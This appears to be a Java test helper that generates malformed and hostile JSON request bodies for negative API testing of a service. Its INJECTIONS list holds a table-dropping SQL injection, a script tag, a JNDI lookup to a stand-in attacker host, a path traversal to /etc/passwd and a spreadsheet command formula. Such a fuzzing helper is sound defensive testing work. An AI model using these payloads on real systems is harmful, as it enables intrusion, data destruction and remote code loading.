package org.ohchr.uprfund.testing;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;

/**
 * The bodies an attacker or a broken client makes of a documented example: every field removed, nulled, of the wrong
 * type, oversized, given a huge exponent, NUL or invalid UTF-8, or an injection string; the whole body nested 10,000
 * deep, with an unknown field, duplicated in an array, empty. Each body has a name saying what was done to which field.
 */
public final class HostileBodies {

    /** Strings that have broken other systems: SQL, a script, a JNDI lookup, a path out of the tree, a spreadsheet formula. */
    public static final List<String> INJECTIONS = List.of(
            "' OR '1'='1'; DROP TABLE users; --",
            "<script>alert(1)</script>",
            "${jndi:ldap://attacker.example/x}",
            "../../../../etc/passwd",
            "=cmd|' /C calc'!A0");
    /** Over the platform's 256K body limit: refused before it is read. */
    static final int OVER_THE_BODY_LIMIT = 1024 * 1024;
    /** Under the body limit but far longer than any column of the suite: the service must refuse it, not the database. */
    static final int LONGER_THAN_ANY_COLUMN = 100 * 1024;
    static final int NESTING = 10_000;
    private static final ObjectMapper JSON = new ObjectMapper();
    /** A lead byte without its continuation and a byte UTF-8 never uses. */
    private static final byte[] INVALID_UTF8 = { (byte) 0xC3, (byte) 0x28, (byte) 0xFF };
    private static final String INVALID_UTF8_MARK = "\uE000invalid-utf8\uE000";
    private static final String MARK = "\uE000spliced\uE000";

    /** One hostile body: what was done, and the bytes sent. */
    public record Body(String name, byte[] bytes) {
        @Override
        public String toString() {
            return name;
        }
    }

    private HostileBodies() {
    }

    /** Every hostile body made from {@code example}, a documented request body. */
    public static List<Body> of(JsonNode example) {
        List<Body> bodies = new ArrayList<>();
        for (Field field : fieldsOf(example, "")) {
            bodies.addAll(fieldMutations(example, field));
        }
        bodies.addAll(wholeBodyMutations(example));
        return bodies;
    }

    private static List<Body> fieldMutations(JsonNode example, Field field) {
        List<Body> bodies = new ArrayList<>();
        bodies.add(body(field.name() + " removed", replaced(example, field, null)));
        bodies.add(body(field.name() + " null", replaced(example, field, JSON.nullNode())));
        bodies.add(body(field.name() + " of the wrong type", replaced(example, field, wrongType(field.value()))));
        bodies.add(body(field.name() + " an empty object", replaced(example, field, JSON.createObjectNode())));
        bodies.add(spliced(example, field, MARK, "1e999999", "a huge exponent"));
        bodies.add(spliced(example, field, MARK, "-1e-999999", "a huge negative exponent"));
        bodies.add(body(field.name() + " " + LONGER_THAN_ANY_COLUMN / 1024 + " KB long",
                replaced(example, field, new TextNode("x".repeat(LONGER_THAN_ANY_COLUMN)))));
        bodies.add(body(field.name() + " with NUL", replaced(example, field, new TextNode(text(field.value()) + "\u0000"))));
        bodies.add(spliced(example, field, text(field.value()) + MARK, "\\ud800", "with a lone surrogate"));
        bodies.add(invalidUtf8(example, field));
        for (String injection : INJECTIONS) {
            bodies.add(body(field.name() + " = " + injection, replaced(example, field, new TextNode(injection))));
        }
        if (field.value().isContainerNode()) {
            bodies.add(body(field.name() + " with an unknown field", replaced(example, field, withUnknownField(field.value()))));
        }
        return bodies;
    }

    private static List<Body> wholeBodyMutations(JsonNode example) {
        List<Body> bodies = new ArrayList<>();
        bodies.add(body("with an unknown field", withUnknownField(example)));
        bodies.add(body("duplicated in an array", JSON.createArrayNode().add(example).add(example)));
        bodies.add(new Body("the body nested " + NESTING + " deep",
                ("[".repeat(NESTING) + write(example) + "]".repeat(NESTING)).getBytes(StandardCharsets.UTF_8)));
        bodies.add(new Body("a field nested " + NESTING + " deep", withFieldValue(example, "nested",
                "{\"a\":".repeat(NESTING) + "1" + "}".repeat(NESTING))));
        bodies.add(new Body("1 MB of whitespace and a string",
                withFieldValue(example, "padding", "\"" + "x".repeat(OVER_THE_BODY_LIMIT) + "\"")));
        bodies.add(new Body("empty", new byte[0]));
        bodies.add(new Body("null", "null".getBytes(StandardCharsets.UTF_8)));
        bodies.add(new Body("a string", "\"text\"".getBytes(StandardCharsets.UTF_8)));
        bodies.add(new Body("cut short", cutShort(write(example))));
        bodies.add(new Body("NUL bytes", new byte[] { 0, 0, 0 }));
        return bodies;
    }

    /** A field of the example: its path (for the name), and its value. */
    private record Field(String name, List<Object> path, JsonNode value) {
    }

    private static List<Field> fieldsOf(JsonNode node, String prefix) {
        return fieldsOf(node, prefix, List.of());
    }

    private static List<Field> fieldsOf(JsonNode node, String prefix, List<Object> path) {
        List<Field> fields = new ArrayList<>();
        if (node.isObject()) {
            for (Map.Entry<String, JsonNode> entry : (Iterable<Map.Entry<String, JsonNode>>) node::fields) {
                String name = prefix.isEmpty() ? entry.getKey() : prefix + "." + entry.getKey();
                List<Object> fieldPath = append(path, entry.getKey());
                fields.add(new Field(name, fieldPath, entry.getValue()));
                fields.addAll(fieldsOf(entry.getValue(), name, fieldPath));
            }
        } else if (node.isArray() && !node.isEmpty()) {
            // The first element stands for all: its fields are the schema's.
            String name = prefix + "[0]";
            List<Object> elementPath = append(path, 0);
            fields.add(new Field(name, elementPath, node.get(0)));
            fields.addAll(fieldsOf(node.get(0), name, elementPath));
        }
        return fields;
    }

    private static List<Object> append(List<Object> path, Object step) {
        List<Object> longer = new ArrayList<>(path);
        longer.add(step);
        return longer;
    }

    /** A copy of the example with the field replaced by {@code value}, or removed when it is null. */
    private static JsonNode replaced(JsonNode example, Field field, JsonNode value) {
        JsonNode copy = example.deepCopy();
        JsonNode parent = copy;
        for (Object step : field.path().subList(0, field.path().size() - 1)) {
            parent = step instanceof Integer index ? parent.get(index) : parent.get((String) step);
        }
        Object last = field.path().get(field.path().size() - 1);
        if (parent instanceof ObjectNode object) {
            if (value == null) {
                object.remove((String) last);
            } else {
                object.set((String) last, value);
            }
        } else if (parent instanceof ArrayNode array) {
            if (value == null) {
                array.remove((Integer) last);
            } else {
                array.set((Integer) last, value);
            }
        }
        return copy;
    }

    private static JsonNode wrongType(JsonNode value) {
        if (value.isTextual()) {
            return JSON.getNodeFactory().numberNode(12345);
        }
        if (value.isNumber() || value.isBoolean()) {
            return new TextNode("not a " + value.getNodeType().name().toLowerCase());
        }
        if (value.isArray()) {
            return new TextNode("not an array");
        }
        if (value.isObject()) {
            return JSON.createArrayNode().add(value);
        }
        return JSON.getNodeFactory().booleanNode(true);
    }

    private static JsonNode withUnknownField(JsonNode node) {
        JsonNode copy = node.deepCopy();
        if (copy instanceof ObjectNode object) {
            object.put("unexpectedField", "surprise");
        } else if (copy instanceof ArrayNode array && !array.isEmpty() && array.get(0) instanceof ObjectNode first) {
            first.put("unexpectedField", "surprise");
        }
        return copy;
    }

    /**
     * The field replaced by text Jackson would not write (a number it cannot hold, a lone surrogate's escape): the field
     * gets {@code value}, and {@link #MARK} in its written form is replaced by {@code raw}, quotes included when the value
     * is the mark alone.
     */
    private static Body spliced(JsonNode example, Field field, String value, String raw, String what) {
        String text = write(replaced(example, field, new TextNode(value)));
        String spliced = value.equals(MARK) ? text.replace("\"" + MARK + "\"", raw) : text.replace(MARK, raw);
        return new Body(field.name() + " " + what, spliced.getBytes(StandardCharsets.UTF_8));
    }

    private static Body invalidUtf8(JsonNode example, Field field) {
        String text = write(replaced(example, field, new TextNode(INVALID_UTF8_MARK)));
        int at = text.indexOf(INVALID_UTF8_MARK);
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.writeBytes(text.substring(0, at).getBytes(StandardCharsets.UTF_8));
        bytes.writeBytes(INVALID_UTF8);
        bytes.writeBytes(text.substring(at + INVALID_UTF8_MARK.length()).getBytes(StandardCharsets.UTF_8));
        return new Body(field.name() + " with invalid UTF-8 bytes", bytes.toByteArray());
    }

    /** The example with one more field whose value is raw JSON text; an example that is no object is wrapped in one. */
    private static byte[] withFieldValue(JsonNode example, String field, String rawValue) {
        String marker = "\uE000raw\uE000";
        JsonNode copy = example.deepCopy();
        ObjectNode object = copy instanceof ObjectNode node ? node : JSON.createObjectNode().set("body", copy);
        object.put(field, marker);
        return write(object).replace("\"" + marker + "\"", rawValue).getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] cutShort(String text) {
        return text.substring(0, Math.max(1, text.length() / 2)).getBytes(StandardCharsets.UTF_8);
    }

    private static String text(JsonNode value) {
        return value.isTextual() ? value.asText() : "text";
    }

    private static Body body(String name, JsonNode node) {
        return new Body(name, write(node).getBytes(StandardCharsets.UTF_8));
    }

    private static String write(JsonNode node) {
        try {
            return JSON.writeValueAsString(node);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException("A JSON tree always writes", e);
        }
    }
}
